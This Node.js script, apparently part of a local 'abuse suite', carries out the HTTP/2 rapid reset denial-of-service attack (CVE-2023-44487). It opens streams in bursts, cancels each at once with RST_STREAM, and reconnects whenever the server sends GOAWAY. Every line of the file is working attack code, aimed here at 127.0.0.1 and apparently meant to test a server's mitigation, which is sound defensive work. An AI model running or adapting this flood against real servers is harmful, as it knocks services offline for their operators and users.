#!/usr/bin/env node
// HTTP/2 rapid reset (CVE-2023-44487) for the abuse suite: opens streams
// as fast as the connection takes them (HEADERS and part of a body) and
// resets each at once with RST_STREAM (CANCEL), over a few connections,
// alternating the forwarding and the store-only location.  Node's own
// http2 module; no package needed.
//
//   node abuse/h2reset.js PORT STREAMS [CONNECTIONS]
//
// A connection the server ends (GOAWAY: nginx's mitigation) is replaced
// with a new one until every stream of its share was sent.  Prints
// key=value lines: streams (opened and reset), sessions (connections
// used), goaway (GOAWAYs received), errors (session errors), ms.

'use strict';

const http2 = require('http2');

const port = Number(process.argv[2]);
const total = Number(process.argv[3] || 1000);
const conns = Number(process.argv[4] || 4);
const { NGHTTP2_CANCEL } = http2.constants;

let streams = 0;
let sessions = 0;
let goaway = 0;
let errors = 0;
const t0 = Date.now();

function session(quota) {
    sessions++;
    return new Promise((resolve) => {
        const s = http2.connect(`http://127.0.0.1:${port}`);
        let sent = 0;
        let done = false;

        const finish = () => {
            if (done) return;
            done = true;
            s.destroy();
            resolve(sent);
        };

        s.on('error', () => { errors++; finish(); });
        s.on('goaway', () => { goaway++; });
        s.on('close', finish);

        const burst = () => {
            if (done) return;
            // 100 streams per turn of the event loop, each reset at once
            for (let i = 0; i < 100 && sent < quota; i++, sent++) {
                const path = (sent % 2 ? '/api' : '/store') + '/rapid-reset';
                let req;
                try {
                    req = s.request({ ':method': 'POST', ':path': path,
                                      'content-type': 'application/json',
                                      'content-length': '1000' });
                } catch (e) {
                    errors++;
                    finish();
                    return;
                }
                req.on('error', () => {});
                req.write('{"msg":"reset me","pad":"');
                req.close(NGHTTP2_CANCEL);
                streams++;
            }
            if (sent < quota) {
                setImmediate(burst);
            } else {
                // let the frames go out before closing
                setTimeout(finish, 500);
            }
        };

        s.on('connect', burst);
    });
}

async function attacker(share) {
    while (share > 0) {
        const sent = await session(share);
        if (sent === 0) {
            return;     // the server refused a new connection: give up
        }
        share -= sent;
    }
}

const per = Math.ceil(total / conns);
Promise.all(Array.from({ length: conns }, () => attacker(per))).then(() => {
    console.log(`streams=${streams}`);
    console.log(`sessions=${sessions}`);
    console.log(`goaway=${goaway}`);
    console.log(`errors=${errors}`);
    console.log(`ms=${Date.now() - t0}`);
});
